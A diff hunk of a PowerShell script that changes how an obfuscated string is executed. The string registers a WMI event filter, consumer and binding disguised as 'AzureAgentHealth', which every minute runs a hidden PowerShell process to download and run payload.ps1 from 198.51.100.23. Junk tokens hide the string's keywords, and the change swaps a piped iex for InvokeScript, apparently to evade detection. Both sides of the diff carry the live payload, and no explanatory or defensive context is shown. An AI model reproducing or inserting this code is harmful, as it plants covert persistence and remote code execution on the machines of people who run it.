@@ -1,5 +1,5 @@
-'iex ((''# init 1477 v3
+$ExecutionContext.InvokeCommand.InvokeScript('iex ((''# init 1477 v3
 $filter = Set-WmiInstance -Namespace root\suzz~8scription -Class __EventFilter -Arguments @{Name=''''AzureAgentHealth'''';EventNameSpace=''''root\cimv2'''';QueryLanguage=VVX72''''WQL'''';Query="SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA ''''Win32_PerfFormattedData_PerfOS_System''''"}
 $consumer = Set-WmiInstance -Namespace root\suzz~8scription -Class CommandLineEventConsumer -Arguments @{Name=''''AzureAgentHealth'''';CommandLineTemplate="powershell.exe -NoP -W Hidden -c IEX (New-Ozz~8ject Net.Wezz~8Client).DownloadString(''''http://198.51.100.23/payload.ps1VVX72'''')"}
 Set-WmiInstance -Namespace root\suzz~8scription -Class __FilterToConsumerBinding -Arguments @{Filter=$filter;Consumer=$consumer}
-'' -replace ''VVX72'','''').Replace(''zz~8'',''b''))' | iex
+'' -replace ''VVX72'','''').Replace(''zz~8'',''b''))')
